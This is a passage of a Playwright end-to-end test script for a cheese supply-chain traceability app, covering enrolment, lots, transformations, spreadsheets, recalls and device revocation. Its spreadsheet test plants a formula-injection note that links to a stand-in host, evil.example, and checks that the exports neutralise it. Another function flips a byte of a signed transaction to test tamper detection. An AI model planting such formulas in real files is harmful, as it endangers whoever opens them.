#!/usr/bin/env python3
"""The producers' app in a real browser (Playwright from PyPI driving
Debian's Chromium), on a running network, in a phone-sized viewport:

    scripts/app-journey.py API_URL ENROLMENT_LINK OUT_DIR [AXE_JS [ENGLISH_LINK]]

enrolment link -> first device (admin) -> a Casciotta product and lot ->
its product's steps (an ageing started twice refused on the device) and
events -> a milk lot made into a Casciotta lot (the yield checked on the
device) -> a second device paired and approved (record right only) -> it
records -> split -> a shipment to a partner picked from the list -> the
consumer page shows the events and the steps
-> spreadsheets: a file with bad rows refused row by row before anything is
signed, an XLSX of lots and a CSV of events imported, the exports read back
with a hostile note neutralised -> a recall by the record-only phone refused, a queued transaction altered
on the device refused before sending, a recall by the admin -> the second
device revoked -> its next submission refused -> the same
screens in English -> the app as static files at another origin, paired,
recording through CORS; with ENGLISH_LINK, a shorter journey from another
organisation's enrolment in an English browser. A screenshot of each step goes to OUT_DIR. With AXE_JS
(axe-core's axe.min.js), axe checks each screen against the WCAG 2.0/2.1 A
and AA rules and any serious or critical violation fails the run. Prints one
JSON line: the steps passed, the time from tapping "sign and send" to the
answer of each submission (ms), and axe's findings per screen. Exits non-zero
at the first failed check.
"""
import io
import json
import os
import re
import socket
import subprocess
import shutil
import sys
import time
import urllib.request
import zipfile

import openpyxl

from playwright.sync_api import expect, sync_playwright

API, LINK, OUT = sys.argv[1].rstrip("/"), sys.argv[2], sys.argv[3]
BROWSER = shutil.which("chromium") or shutil.which("chromium-browser")
PHONE = {"viewport": {"width": 412, "height": 915}, "device_scale_factor": 2, "is_mobile": True, "has_touch": True}
GTIN = "09521234100980"  # a Casciotta pack of this test's dairy (check digit computed below)
LOT = "CU-APP-0001"
ORG = LINK.split("org=")[1].split("&")[0]
TIMEOUT_MS = 60_000
steps, timings = [], []
AXE = open(sys.argv[4]).read() if len(sys.argv) > 4 and sys.argv[4] else None
# A second organisation's enrolment link: the shorter journey in English.
ENGLISH_LINK = sys.argv[5] if len(sys.argv) > 5 else None
AXE_TAGS = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"]
axe_findings = {}
labels_read = []


def gtin(body13):
    total = sum(int(d) * (3 if i % 2 == 0 else 1) for i, d in enumerate(body13))
    return body13 + str((10 - total % 10) % 10)


GTIN = gtin(GTIN[:13])
MILK = gtin("0952123410097")  # this dairy's raw sheep milk
COW = gtin("0952123410094")  # and its raw cow milk
WINERY = "cantina-app-demo"  # the partner of the shipment (onboarded by the test)
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def shot(page, name):
    page.screenshot(path=f"{OUT}/{len(steps):02d}-{name}.png", full_page=True)
    steps.append(name)
    if AXE:
        # Evaluated through the DevTools protocol, which the page's CSP does
        # not govern; the page's own policy stays as served.
        if not page.evaluate("typeof axe !== 'undefined'"):
            page.evaluate(AXE + "\n;0")
        result = page.evaluate("(tags) => axe.run(document, {runOnly: {type: 'tag', values: tags}})"
                               ".then(r => r.violations.map(v => ({id: v.id, impact: v.impact, nodes: v.nodes.length})))",
                               AXE_TAGS)
        axe_findings[name] = result
        grave = [v for v in result if v["impact"] in ("serious", "critical")]
        assert not grave, f"axe on {name}: {grave}"


TITLES = {"#/record": ["Registra un evento", "Record an event"], "#/split": ["Dividi un lotto"],
          "#/devices": ["Dispositivi"], "#/queue": ["Invii", "Submissions"], "#/lot": ["Nuovo lotto"],
          "#/product": ["Nuovo prodotto"], "#/": ["I miei lotti", "My lots"], "#/sheets": ["Fogli di calcolo"],
          "#/recall": ["Richiamo di un lotto"], "#/transform": ["Trasformazione"], "#/merge": ["Unione di lotti"]}
# A receiver's note written to attack whoever opens the export in a spreadsheet.
HOSTILE_NOTE = '=HYPERLINK("https://evil.example/?x","ok")'
sheet_checks = {}


def go(page, route):
    """Opens a screen of the app and waits until it is drawn (the old
    screen's fields stay until then)."""
    page.goto(f"{API}/app/{route}")
    expect(page.locator("h1")).to_have_text(re.compile("|".join(map(re.escape, TITLES[route]))))


def record_form(page, lot, event, offline=False):
    """Opens "record an event" and fills it for `lot` (of GTIN) and `event`.
    Offline, only the address's fragment changes: nothing is asked of the
    network."""
    if offline:
        page.evaluate("location.hash = '#/record'")
        expect(page.locator("h1")).to_have_text("Registra un evento")
    else:
        go(page, "#/record")
    page.select_option("#lot", f"{GTIN}/{lot}")
    page.select_option("#event", event)


def fname(text):
    return re.sub(r"[^a-z0-9-]+", "-", text.lower())


def pairing_code(page, app_url):
    """A new device opens the app at `app_url`, names its organisation and
    shows its pairing code (its new key), which this returns."""
    page.goto(app_url)
    expect(page.locator("h1")).to_have_text("Questo dispositivo non è ancora attivo")
    page.click("text=Mostra il codice di abbinamento")
    page.fill("#org", ORG)
    page.locator("main button[type=submit]").click()
    code = page.locator("#pairing-code").inner_text().strip()
    assert len(code) == 64, code
    return code


def send(page, expect_text):
    """Taps the form's button and waits for the notice; returns its text."""
    started = time.monotonic()
    page.locator("main button[type=submit]").first.click()
    notice = page.locator("#notice")
    expect(notice).to_contain_text(expect_text, timeout=TIMEOUT_MS)
    timings.append(round((time.monotonic() - started) * 1000))
    return notice.inner_text()


def upload(page, name, data, mime):
    page.set_input_files("#file", files=[{"name": name, "mimeType": mime, "buffer": data}])
    page.locator("#f button[type=submit]").click()


def downloaded(page, selector):
    try:
        with page.expect_download() as info:
            page.click(selector)
    except Exception as e:
        raise AssertionError(f"no download from {selector}; the app said: {page.locator('#notice').inner_text()!r}") from e
    return open(info.value.path(), "rb").read()


def spreadsheets(a):
    """Template, a file with bad rows (refused before anything is signed),
    an XLSX of lots and a CSV of events signed and sent in batches, and the
    exports with a hostile note neutralised."""
    go(a, "#/sheets")
    shot(a, "sheets")
    template = downloaded(a, "#tpl-csv")
    assert template == '\ufeff"gtin";"lot";"quantity";"site"\n'.encode(), template

    bad = ("prodotto;lotto;quantità\n"
           f"{GTIN};CU-XLS-01;10\n"
           f"{GTIN[:13]}{(int(GTIN[13]) + 1) % 10};CU-XLS-02;10\n"  # wrong check digit
           f"{GTIN};{LOT};5\n"              # exists already
           f"{GTIN};CU-XLS-01;3\n"          # twice in the file
           f"{GTIN};CU XLS;0\n")            # bad lot, bad quantity
    upload(a, "lotti.csv", bad.encode(), "text/csv")
    rows = a.locator("#bad-rows li")
    try:
        expect(rows).to_have_count(4)
    except AssertionError as e:
        raise AssertionError(f"dry run: {a.locator('main').inner_text()!r}; notice {a.locator('#notice').inner_text()!r}") from e
    expect(rows.nth(0)).to_contain_text("Riga 3")
    expect(rows.nth(0)).to_contain_text("GTIN non valido")
    expect(rows.nth(1)).to_contain_text("il lotto esiste già")
    expect(rows.nth(2)).to_contain_text("lotto ripetuto nel file")
    expect(rows.nth(3)).to_contain_text("quantità non valida")
    expect(a.locator("#report")).to_contain_text("Nulla è stato firmato")
    assert a.locator("#send").count() == 0, "a file with bad rows offers no signing"
    shot(a, "sheet-bad-rows")
    status = a.request.get(f"{API}/v1/lots/{GTIN}/CU-XLS-01").status
    assert status == 404, f"the good row of a refused file was not sent ({status})"

    # XLSX as a spreadsheet program writes it: the GTIN typed as a number
    # (its leading zero lost), quantities as numbers.
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["GTIN", "Lotto", "Quantità"])
    for i in range(1, 4):
        sheet.append([int(GTIN), f"CU-XLS-0{i}", 10 * i])
    buffer = io.BytesIO()
    book.save(buffer)
    upload(a, "lotti.xlsx", buffer.getvalue(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    expect(a.locator("#report h3")).to_have_text("Tutte le 3 righe sono corrette.")
    started = time.monotonic()
    a.locator("#send button").click()
    expect(a.locator("#notice")).to_have_text("Importazione: 3 registrate, 0 rifiutate (vedi «Invii»).", timeout=TIMEOUT_MS)
    sheet_checks["xlsx_3_lots_ms"] = round((time.monotonic() - started) * 1000)
    expect(a.locator("#progress-text")).to_contain_text("3 di 3")
    shot(a, "sheet-imported")

    go(a, "#/")
    go(a, "#/sheets")
    a.select_option("#kind", "events")
    quoted = '"' + HOSTILE_NOTE.replace('"', '""') + '"'
    events = ("gtin;lotto;evento;nota\n"
              f"{GTIN};CU-XLS-02;ispezione;verificata la maturità\n"
              f"{GTIN};CU-XLS-01;stoccaggio;{quoted}\n"
              )
    upload(a, "eventi.csv", events.encode("cp1252"), "text/csv")
    expect(a.locator("#report h3")).to_have_text("Tutte le 2 righe sono corrette.")
    a.locator("#send button").click()
    expect(a.locator("#notice")).to_have_text("Importazione: 2 registrate, 0 rifiutate (vedi «Invii»).", timeout=TIMEOUT_MS)
    notes = [e["note"] for e in a.request.get(f"{API}/v1/lots/{GTIN}/CU-XLS-02").json()["history"]]
    assert "verificata la maturità" in notes, f"Windows-1252 read as such: {notes}"

    # The exports: the hostile note is text, in CSV and in XLSX.
    exported = downloaded(a, "[data-export=csv_events]").decode("utf-8-sig")
    note_rows = [line for line in exported.splitlines() if "evil.example" in line]
    assert len(note_rows) == 1, exported
    assert ";\"'=HYPERLINK(" in note_rows[0], f"not neutralised: {note_rows[0]}"
    workbook = downloaded(a, "[data-export=xlsx]")
    with zipfile.ZipFile(io.BytesIO(workbook)) as z:
        assert not any("<f>" in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")), "a formula cell"
    book = openpyxl.load_workbook(io.BytesIO(workbook))
    notes = [row[8] for row in book["events"].iter_rows(min_row=2, values_only=True)]
    assert HOSTILE_NOTE in notes, notes
    lots_sheet = [row[1] for row in book["lots"].iter_rows(min_row=2, values_only=True)]
    assert {"CU-XLS-01", "CU-XLS-02", "CU-XLS-03", LOT} <= set(lots_sheet), lots_sheet
    sheet_checks["export_events_rows"] = len(exported.splitlines()) - 1
    # EPCIS 2.0: GS1's schema and GS1's reference hashes, on the file as downloaded.
    document = downloaded(a, "[data-export=epcis]")
    path = f"{OUT}/export.jsonld"
    open(path, "wb").write(document)
    events = json.loads(document)["epcisBody"]["eventList"]
    # The cheesemaking and the split are one TransformationEvent each, from
    # what was drawn to what was made; every other event row is an
    # ObjectEvent (the six rows of both sides, two milks in, are not repeated).
    made = [e for e in events if e["type"] == "TransformationEvent"]
    dl = lambda gtin, lot: f"https://id.gs1.org/01/{gtin}/10/{lot}"
    cheese = {"inputQuantityList": sorted([{"epcClass": dl(MILK, "LO-APP-01"), "quantity": 160},
                                           {"epcClass": dl(COW, "LV-APP-01"), "quantity": 40}], key=lambda q: q["epcClass"]),
              "outputQuantityList": [{"epcClass": dl(GTIN, "CU-APP-0002"), "quantity": 30}]}
    split = {"inputQuantityList": [{"epcClass": dl(GTIN, LOT), "quantity": 120}],
             "outputQuantityList": [{"epcClass": dl(GTIN, f"{LOT}-A"), "quantity": 70},
                                    {"epcClass": dl(GTIN, f"{LOT}-B"), "quantity": 50}]}
    seen = [{k: sorted(e[k], key=lambda q: q["epcClass"]) for k in ("inputQuantityList", "outputQuantityList")} for e in made]
    assert cheese in seen and split in seen and len(made) == 2, seen
    assert len(events) - len(made) == sheet_checks["export_events_rows"] - 6, (len(events), sheet_checks)
    here = __file__.rsplit("/", 1)[0]
    valid = subprocess.run(["python3", f"{here}/epcis-schema-check.py", path], capture_output=True, text=True)
    assert valid.returncode == 0, f"EPCIS export against GS1's schema: {valid.stdout}{valid.stderr}"
    reference = subprocess.run(["python3", f"{here}/epcis-reference-hashes.py", path], capture_output=True, text=True)
    assert reference.returncode == 0, reference.stderr
    assert json.loads(reference.stdout)["hashes"] == [e["eventID"] for e in events], "eventIDs differ from GS1's reference hashes"
    sheet_checks["epcis_events"] = len(events)
    shot(a, "sheet-exported")


TAMPER_JS = """async () => {
  const db = await new Promise((ok, no) => { const r = indexedDB.open("filiera-app", 1); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error); });
  const all = await new Promise((ok) => { const r = db.transaction("queue").objectStore("queue").getAll(); r.onsuccess = () => ok(r.result); });
  const done = all.filter((i) => i.status === "committed" && i.tx).sort((x, y) => y.recorded_ms - x.recorded_ms)[0];
  // The last byte of the call's arguments, right before the 64-byte signature.
  const at = done.tx.length - 2 * 65;
  const flipped = ((parseInt(done.tx.slice(at, at + 2), 16) ^ 1).toString(16)).padStart(2, "0");
  const item = { ...done, id: "tampered", tx: done.tx.slice(0, at) + flipped + done.tx.slice(at + 2), status: "waiting", what: "altered", recorded_ms: Date.now() };
  await new Promise((ok) => { const t = db.transaction("queue", "readwrite"); t.objectStore("queue").put(item); t.oncomplete = ok; });
  return done.nonce;
}"""


def tampered(a):
    go(a, "#/queue")
    nonce_before = a.request.get(f"{API}/v1/accounts/{admin_key(a)}/nonce").json()["next_nonce"]
    a.evaluate(TAMPER_JS)
    a.evaluate("window.dispatchEvent(new Event('online'))")
    go(a, "#/")
    go(a, "#/queue")
    expect(a.locator("#queue")).to_contain_text("La transazione è stata alterata dopo la firma: non è stata inviata.", timeout=TIMEOUT_MS)
    nonce_after = a.request.get(f"{API}/v1/accounts/{admin_key(a)}/nonce").json()["next_nonce"]
    assert nonce_after == nonce_before, f"the altered transaction reached the chain ({nonce_before} -> {nonce_after})"
    shot(a, "tampered-refused")


def admin_key(page):
    return page.evaluate("""async () => {
      const db = await new Promise((ok) => { const r = indexedDB.open("filiera-app", 1); r.onsuccess = () => ok(r.result); });
      return await new Promise((ok) => { const r = db.transaction("device").objectStore("device").get("self"); r.onsuccess = () => ok(r.result.pub); });
    }""")


def english(browser):
    """The shorter journey, in a browser whose language is English: a
    Verdicchio winery enrols its first phone, registers a product and a lot,
    records two events, reads its submissions and the lot's consumer page."""
    context = browser.new_context(locale="en-GB", **PHONE)
    context.set_default_timeout(TIMEOUT_MS)
    e = context.new_page()
    errors = []
    e.on("pageerror", lambda x: errors.append(str(x)))
    e.goto(ENGLISH_LINK)
    expect(e.locator("h1")).to_have_text("Activate this device")
    expect(e.locator("html")).to_have_attribute("lang", "en")
    shot(e, "en-enrol")
    e.fill("#label", "phone 1, admin")
    send(e, "Device activated for")
    expect(e.locator("h1")).to_have_text("My lots")
    shot(e, "en-home-empty")
    wine = gtin("0952123430098")
    e.goto(f"{API}/app/#/product")
    expect(e.locator("h1")).to_have_text("New product")
    e.fill("#gtin", wine[:13] + str((int(wine[13]) + 1) % 10))
    e.fill("#name", "Verdicchio dei Castelli di Jesi DOC")
    e.locator("main button[type=submit]").click()
    expect(e.locator("#err")).to_have_text("A GTIN has 14 digits with the right check digit.")
    e.fill("#gtin", wine)
    e.select_option("#scheme", "DOC")
    e.select_option("#uom", "l")
    send(e, "Recorded on the network")
    shot(e, "en-product")
    e.goto(f"{API}/app/#/lot")
    expect(e.locator("h1")).to_have_text("New lot")
    e.select_option("#gtin", wine)
    expect(e.locator("#quantity-hint")).to_have_text("Unit: l.")
    e.fill("#lot", "VJ-2026-EN")
    e.fill("#quantity", "900")
    send(e, "Recorded on the network")
    for event in ["step:ageing_start", "inspect"]:
        e.goto(f"{API}/app/#/record")
        expect(e.locator("h1")).to_have_text("Record an event")
        e.select_option("#lot", f"{wine}/VJ-2026-EN")
        e.select_option("#event", event)
        send(e, "Recorded on the network")
    shot(e, "en-record")
    e.goto(f"{API}/app/#/queue")
    expect(e.locator("#queue li")).to_have_count(5)
    expect(e.locator("#queue")).not_to_contain_text("refused")
    shot(e, "en-queue")
    e.goto(f"{API}/01/{wine}/10/VJ-2026-EN")
    expect(e.locator("body")).to_contain_text("Verdicchio dei Castelli di Jesi DOC")
    shot(e, "en-consumer-page")
    assert not errors, f"script errors in the English journey: {errors}"
    context.close()
    return wine


def static_origin(browser, admin):
    """Builds the static app for this node, serves it from another port
    (another origin; localhost is a secure context), pairs a tablet there
    with the admin phone and records an event from it."""
    folder = f"{OUT}/static-app"
    subprocess.run(["bash", f"{ROOT}/scripts/build-app.sh", folder, API], check=True, capture_output=True)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = subprocess.Popen([sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1", "--directory", folder],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        origin = f"http://127.0.0.1:{port}"
        for _ in range(100):
            try:
                urllib.request.urlopen(f"{origin}/index.html", timeout=1)
                break
            except OSError:
                time.sleep(0.1)
        context = browser.new_context(locale="it-IT", **PHONE)
        context.set_default_timeout(TIMEOUT_MS)
        c = context.new_page()
        errors = []
        c.on("pageerror", lambda x: errors.append(str(x)))
        code = pairing_code(c, f"{origin}/")
        go(admin, "#/devices")
        admin.fill("#code", code)
        admin.fill("#label", "tablet, sito statico")
        send(admin, "Registrato in rete")
        expect(c.locator("h1")).to_have_text("I miei lotti", timeout=TIMEOUT_MS)
        expect(c.locator("#lots")).to_contain_text("CU-APP-0002")
        link = c.locator("#lots a").first.get_attribute("href")
        assert link.startswith(f"{API}/01/"), f"a consumer page link of the static app points at the node: {link}"
        shot(c, "static-origin-home")
        c.evaluate("location.hash = '#/record'")
        expect(c.locator("h1")).to_have_text("Registra un evento")
        c.select_option("#lot", f"{GTIN}/CU-APP-0002")
        c.select_option("#event", "inspect")
        send(c, "Registrato in rete")
        shot(c, "static-origin-records")
        assert not errors, f"script errors in the static app: {errors}"
        context.close()
    finally:
        server.terminate()
        server.wait(timeout=10)


def main():
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=BROWSER, args=["--no-sandbox"])
        first = browser.new_context(locale="it-IT", **PHONE)
        first.set_default_timeout(TIMEOUT_MS)
        a = first.new_page()
        errors = []
        a.on("pageerror", lambda e: errors.append(str(e)))

        # 1. The enrolment link: the first device makes its key and enrols.
        a.goto(LINK)
        expect(a.locator("h1")).to_have_text("Attiva questo dispositivo")
        assert "enrol=" not in a.url, "the ticket's secret left the address bar"
        shot(a, "enrol")
        a.fill("#label", "telefono 1, amministrazione")
        send(a, "Dispositivo attivato per")
        expect(a.locator("h1")).to_have_text("I miei lotti")
        shot(a, "home-empty")

        # 2. A product and a lot of Casciotta d'Urbino.
        go(a, "#/product")
        a.fill("#gtin", "09521234100981" if GTIN != "09521234100981" else "09521234100982")
        a.fill("#name", "Casciotta d'Urbino DOP")
        a.locator("main button[type=submit]").click()
        expect(a.locator("#err")).to_have_text("Il GTIN deve avere 14 cifre con la cifra di controllo giusta.")
        shot(a, "product-bad-gtin")
        a.fill("#gtin", GTIN)
        a.fill("#yield", "150")  # 15 kg of cheese from 100 kg of milk, at most
        send(a, "Registrato in rete")
        shot(a, "product")
        go(a, "#/lot")
        a.select_option("#gtin", GTIN)
        expect(a.locator("#quantity-hint")).to_have_text("Unità: kg.")
        a.fill("#lot", LOT)
        a.fill("#quantity", "120")
        send(a, "Registrato in rete")
        shot(a, "lot")

        # 3. Its events: the steps of a Casciotta first (the app knows the
        #    protected name from the catalogue), then any event. An ageing
        #    started twice is refused on the device, before signing.
        record_form(a, LOT, "step:ageing_start")
        expect(a.locator("#event optgroup").first).to_have_attribute("label", "Fasi del prodotto")
        for event in ["step:ageing_start", "inspect"]:
            record_form(a, LOT, event)
            send(a, "Registrato in rete")
            shot(a, f"event-{fname(event)}")
        record_form(a, LOT, "step:ageing_start")
        a.locator("main button[type=submit]").click()
        expect(a.locator("#err")).to_have_text("La stagionatura di questo lotto è già iniziata: registrane la fine.")
        shot(a, "ageing-twice-refused")

        # 3a. Milk made into cheese: a raw-milk product and a lot of it, then
        #     a transformation; more cheese than the yield allows is refused
        #     on the device.
        go(a, "#/product")
        a.fill("#gtin", MILK)
        a.fill("#name", "Latte ovino crudo")
        a.select_option("#scheme", "none")
        send(a, "Registrato in rete")
        go(a, "#/lot")
        a.select_option("#gtin", MILK)
        a.fill("#lot", "LO-APP-01")
        a.fill("#quantity", "160")
        send(a, "Registrato in rete")
        # The disciplinare's shares (genesis): a Casciotta is 70-80% sheep
        # milk and 20-30% cow milk. Sheep milk alone passes the device and
        # is refused by the contract, which names the rule, in words.
        go(a, "#/transform")
        a.locator('.draw[data-lot="LO-APP-01"]').fill("160")
        a.select_option("#gtin", GTIN)
        a.fill("#lot", "CU-APP-0002")
        a.fill("#quantity", "24")
        send(a, "Il disciplinare chiede altre proporzioni degli ingredienti")
        shot(a, "transform-rule-refused")
        go(a, "#/product")
        a.fill("#gtin", COW)
        a.fill("#name", "Latte vaccino crudo")
        a.select_option("#scheme", "none")
        send(a, "Registrato in rete")
        go(a, "#/lot")
        a.select_option("#gtin", COW)
        a.fill("#lot", "LV-APP-01")
        a.fill("#quantity", "40")
        send(a, "Registrato in rete")
        go(a, "#/transform")
        milk_input = a.locator(f'.draw[data-lot="LO-APP-01"]')
        cow_input = a.locator(f'.draw[data-lot="LV-APP-01"]')
        milk_input.fill("250")
        a.select_option("#gtin", GTIN)
        a.fill("#lot", "CU-APP-0002")
        a.fill("#quantity", "30")
        a.locator("main button[type=submit]").click()
        expect(a.locator("#err")).to_have_text("Del lotto LO-APP-01 restano solo 160.")
        milk_input.fill("160")
        cow_input.fill("40")
        a.fill("#quantity", "31")
        a.locator("main button[type=submit]").click()
        expect(a.locator("#err")).to_have_text("Troppo: da 200 la resa massima del prodotto consente al più 30.")
        shot(a, "transform-yield-checked")
        a.fill("#quantity", "30")
        send(a, "Registrato in rete")
        made = a.request.get(f"{API}/v1/lots/{GTIN}/CU-APP-0002").json()
        assert made["quantity"] == 30 and sorted(i["lot"] for i in made["inputs"]) == ["LO-APP-01", "LV-APP-01"], made
        assert made["rules"]["name"] == "Casciotta d'Urbino" and made["rules"]["version"] == 1, made
        milk = a.request.get(f"{API}/v1/lots/{MILK}/LO-APP-01").json()
        assert milk["quantity"] == 0, milk
        shot(a, "transformed")

        # The Casciotta rules amended for 30 days ahead (node/tests/it/app.rs
        # sets it up): home says what changes, from when, and how many of
        # the dairy's lots are of that product.
        go(a, "#/")
        ahead = a.locator("#rules-ahead")
        expect(ahead).to_be_visible()
        expect(ahead).to_contain_text("DOP Casciotta d'Urbino: versione 2 dal")
        expect(ahead).to_contain_text("durate")
        expect(ahead).to_contain_text("restano alla versione 1")
        shot(a, "rules-ahead")

        # 3b. In the cellar, without a connection (the browser's own offline
        #     mode): the app reopens from its service worker, two events are
        #     recorded and wait on the device; back online they are signed,
        #     sent in order and recorded.
        go(a, "#/queue")  # the service worker is in control from here
        a.wait_for_function("navigator.serviceWorker.controller !== null")
        first.set_offline(True)
        a.reload()
        expect(a.locator("h1")).to_have_text("Invii")
        for event in ["store", "hold"]:
            record_form(a, LOT, event, offline=True)
            a.locator("main button[type=submit]").click()
            expect(a.locator("#notice")).to_contain_text("Senza connessione")
            expect(a.locator("main button[type=submit]")).to_be_enabled()
        a.evaluate("location.hash = '#/queue'")
        expect(a.locator("h1")).to_have_text("Invii")
        expect(a.locator("#queue .tag.wait")).to_have_count(2)
        shot(a, "offline-queue")
        started = time.monotonic()
        first.set_offline(False)
        expect(a.locator("#notice")).to_contain_text("2 invii ricevuti", timeout=TIMEOUT_MS)
        timings.append(round((time.monotonic() - started) * 1000))
        expect(a.locator("#queue .tag.wait")).to_have_count(0)
        # Only the transformation the disciplinare refused.
        expect(a.locator("#queue .tag.bad")).to_have_count(1)
        shot(a, "back-online")
        record_form(a, LOT, "release", offline=True)
        send(a, "Registrato in rete")
        record_form(a, LOT, "step:ageing_end")
        send(a, "Registrato in rete")

        # 4. A second phone shows its pairing code; the admin approves it
        #    with the record right only.
        second = browser.new_context(locale="it-IT", **PHONE)
        second.set_default_timeout(TIMEOUT_MS)
        b = second.new_page()
        code = pairing_code(b, f"{API}/app/")
        shot(b, "pair-code")
        go(a, "#/devices")
        a.fill("#code", code)
        a.fill("#label", "telefono 2, cantina")
        send(a, "Registrato in rete")
        expect(a.locator("#devices")).to_contain_text("telefono 2, cantina")
        shot(a, "devices-paired")
        expect(b.locator("h1")).to_have_text("I miei lotti", timeout=TIMEOUT_MS)
        shot(b, "second-home")

        # 5. The second phone records with its own key.
        record_form(b, LOT, "store")
        send(b, "Registrato in rete")
        shot(b, "second-records")

        # 5b. The second phone may record but not recall: its recall is
        #     refused by the contract, in words, and the lot is untouched.
        go(b, "#/recall")
        b.select_option("#lot", f"{GTIN}/{LOT}")
        b.fill("#reason", "prova di richiamo senza diritto")
        b.locator("main button[type=submit]").click()
        expect(b.locator("#err")).to_have_text("Spunta la conferma per richiamare il lotto.")
        b.check("#sure")
        send(b, "non ha il permesso")
        recall = b.request.get(f"{API}/v1/lots/{GTIN}/{LOT}").json()["recall"]
        assert recall is None, f"a refused recall changed the lot: {recall}"
        shot(b, "recall-refused-no-right")
        # 5c. Nor may it add a device of its own choosing (admin right).
        go(b, "#/devices")
        b.fill("#code", "ab" * 32)
        b.fill("#label", "telefono non autorizzato")
        send(b, "non ha il permesso")
        devices = b.request.get(f"{API}/v1/orgs/{ORG}").json()["devices"]
        assert len(devices) == 2, f"a record-only phone added a device: {devices}"
        shot(b, "add-device-refused-no-right")

        # 6. Split the lot.
        go(a, "#/split")
        a.select_option("#lot", f"{GTIN}/{LOT}")
        a.fill("#parts", f"{LOT}-A=40\n{LOT}-B=30")
        a.locator("main button[type=submit]").click()
        expect(a.locator("#err")).to_have_text("Le parti sommano 70, il lotto ne ha 120.")
        shot(a, "split-checked-on-device")
        a.fill("#parts", f"{LOT}-A=70\n{LOT}-B=50")
        send(a, "Registrato in rete")
        shot(a, "split")
        a.goto(f"{API}/app/")
        expect(a.locator("#lots")).to_contain_text(f"{LOT}-A")
        expect(a.locator("#lots")).to_contain_text(f"{LOT}-B")
        shot(a, "home-lots")

        # 6b. Print the label sheet of the two parts and the transformed lot, and read every code
        #     back with zbarimg from the page as the browser draws it.
        sheet = a.locator("#sheets a.sheet-link")
        expect(sheet).to_have_count(1)
        href = sheet.get_attribute("href")
        printed = browser.new_page(viewport={"width": 1240, "height": 1754})
        printed.set_content(f'<body style="margin:0"><img id="sheet" src="{API}{href}" style="width:1240px"></body>')
        printed.wait_for_function("document.getElementById('sheet').complete && document.getElementById('sheet').naturalWidth > 0")
        png = f"{OUT}/{len(steps):02d}-label-sheet.png"
        printed.screenshot(path=png, full_page=True)
        printed.close()
        steps.append("label-sheet")
        read = subprocess.run(["zbarimg", "--quiet", "--raw", png], capture_output=True, text=True)
        codes = sorted(set(read.stdout.split()))
        want = sorted([f"{API}/01/{GTIN}/10/{LOT}-{part}" for part in "AB"] + [f"{API}/01/{GTIN}/10/CU-APP-0002"])
        assert codes == want, f"zbarimg read {codes}, expected {want} ({read.stderr})"
        labels_read.extend(codes)
        drawn = a.request.get(f"{API}{href}").text()
        assert "Casciotta d&#39;Urbino DOP" in drawn or "Casciotta d&#x27;Urbino DOP" in drawn, "the product's name in clear on the sheet"

        # 6b'. A part shipped to a partner picked from the list of the
        #      network's organisations; a name not on it is refused first.
        record_form(a, f"{LOT}-B", "ship")
        a.fill("#to", "caseificio-inesistente")
        a.locator("main button[type=submit]").click()
        expect(a.locator("#err")).to_have_text("Scegli il destinatario dall'elenco delle organizzazioni.")
        partners = a.locator("#partners option")
        assert partners.count() >= 2, "the partner list"
        a.fill("#to", WINERY)
        shot(a, "ship-partner")
        send(a, "Registrato in rete")
        shipped = a.request.get(f"{API}/v1/lots/{GTIN}/{LOT}-B").json()
        assert shipped["status"] == "in_transit", shipped

        # 6c. Spreadsheets: import with a dry run, export neutralised.
        spreadsheets(a)

        # 6d. A queued transaction altered on the device after signing (one
        #     byte of its call) is refused by the app before it is sent.
        tampered(a)

        # 6d'. Two lots of the spreadsheet merged into one; one lot alone is
        #      refused on the device first.
        before = [a.request.get(f"{API}/v1/lots/{GTIN}/CU-XLS-0{n}").json()["quantity"] for n in (1, 2)]
        go(a, "#/merge")
        a.check(f'.merge[value="{GTIN}/CU-XLS-01"]')
        a.fill("#into", "CU-XLS-M")
        a.locator("main button[type=submit]").click()
        expect(a.locator("#err")).to_have_text("Scegli almeno due lotti.")
        a.check(f'.merge[value="{GTIN}/CU-XLS-02"]')
        shot(a, "merge")
        send(a, "Registrato in rete")
        merged = a.request.get(f"{API}/v1/lots/{GTIN}/CU-XLS-M").json()
        assert merged["quantity"] == sum(before), (merged, before)
        assert sorted(i["lot"] for i in merged["inputs"]) == ["CU-XLS-01", "CU-XLS-02"], merged

        # 6e. The admin phone recalls a lot of the spreadsheet.
        go(a, "#/recall")
        a.select_option("#lot", f"{GTIN}/CU-XLS-03")
        a.fill("#reason", "Listeria in un campione di controllo")
        a.check("#sure")
        send(a, "Registrato in rete")
        recall = a.request.get(f"{API}/v1/lots/{GTIN}/CU-XLS-03").json()["recall"]
        assert recall and recall["reason"] == "Listeria in un campione di controllo", recall
        shot(a, "recalled")

        # 7. The consumer page of the lot shows what was recorded.
        a.goto(f"{API}/01/{GTIN}/10/{LOT}")
        expect(a.locator("body")).to_contain_text("Casciotta d'Urbino DOP")
        expect(a.locator("body")).to_contain_text("Inizio stagionatura")
        expect(a.locator("body")).to_contain_text("Fine stagionatura")
        expect(a.locator("body")).not_to_contain_text("#ageing")
        shot(a, "consumer-page")

        # 8. The admin revokes the second phone (two taps); its next
        #    submission is refused, said in words.
        go(a, "#/devices")
        revoke = a.locator("[data-revoke]")
        expect(revoke).to_have_count(1)
        revoke.click()
        expect(revoke).to_contain_text("Revocare il dispositivo")
        revoke.click()
        expect(a.locator("#notice")).to_contain_text("Registrato in rete", timeout=TIMEOUT_MS)
        expect(a.locator("[data-revoke]")).to_have_count(0, timeout=TIMEOUT_MS)
        shot(a, "revoked")
        record_form(b, LOT, "store")
        send(b, "non è (più) autorizzato")
        shot(b, "revoked-refused")

        # 8b. The app as a folder of static files on another origin (built
        #     by scripts/build-app.sh, served by a plain web server): a
        #     tablet pairs there and records through the node's CORS.
        static_origin(browser, a)

        # 9. The same app in English: the language switch, a recorded event,
        #    the submissions list.
        a.goto(f"{API}/app/")
        a.click("#lang")
        expect(a.locator("h1")).to_have_text("My lots")
        expect(a.locator("html")).to_have_attribute("lang", "en")
